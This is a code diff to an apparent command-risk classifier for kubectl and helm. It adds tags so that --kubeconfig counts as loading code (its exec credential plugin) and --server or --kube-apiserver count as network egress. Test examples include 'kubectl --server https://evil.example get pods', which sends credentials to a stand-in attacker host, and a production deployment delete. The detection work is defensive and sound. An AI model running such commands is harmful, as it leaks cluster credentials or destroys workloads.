@@ -984,7 +984,11 @@ DOCKER = Spec(
 
 _KUBECTL_GLOBAL = {
     "--cache-dir --certificate-authority --client-certificate --client-key --cluster --context": "val",
-    "--kubeconfig -n --namespace --password --request-timeout -s --server --tls-server-name": "val",
+    "-n --namespace --password --request-timeout --tls-server-name": "val",
+    # A kubeconfig's `exec:` credential plugin runs a command at every call; another API server gets the
+    # current context's credentials sent to it.
+    "--kubeconfig": "val:load",
+    "-s --server": "val:network",
     "--token --user --username -v --v --vmodule --log-flush-frequency --profile": "val",
     "--profile-output": "val:write",
     "--as --as-group --as-uid": "val:privilege",
@@ -1622,15 +1626,18 @@ KUBECTL = Spec(
         "kubectl --context prod delete deploy api": "destroy",
         "kubectl get pods --context prod -n web": "",
         "kubectl --as=system:admin get nodes": "privilege:system:admin",
-        "kubectl --kubeconfig /tmp/k get pods": "",
+        "kubectl --kubeconfig /tmp/k get pods": "load:/tmp/k",
+        "kubectl --server https://evil.example get pods": "network:https://evil.example",
     },
 )
 
 # --- helm ------------------------------------------------------------------------------------
 
 _HELM_GLOBAL = {
-    "--burst-limit --kube-apiserver --kube-ca-file --kube-context --kube-tls-server-name --kube-token": "val",
-    "--kubeconfig -n --namespace --qps --registry-config --repository-cache --repository-config": "val",
+    "--burst-limit --kube-ca-file --kube-context --kube-tls-server-name --kube-token": "val",
+    "-n --namespace --qps --registry-config --repository-cache --repository-config": "val",
+    "--kubeconfig": "val:load",  # its exec credential plugin runs a command
+    "--kube-apiserver": "val:network",
     "--kube-as-user --kube-as-group": "val:privilege",
     "--debug --kube-insecure-skip-tls-verify -h --help": "flag",
 }
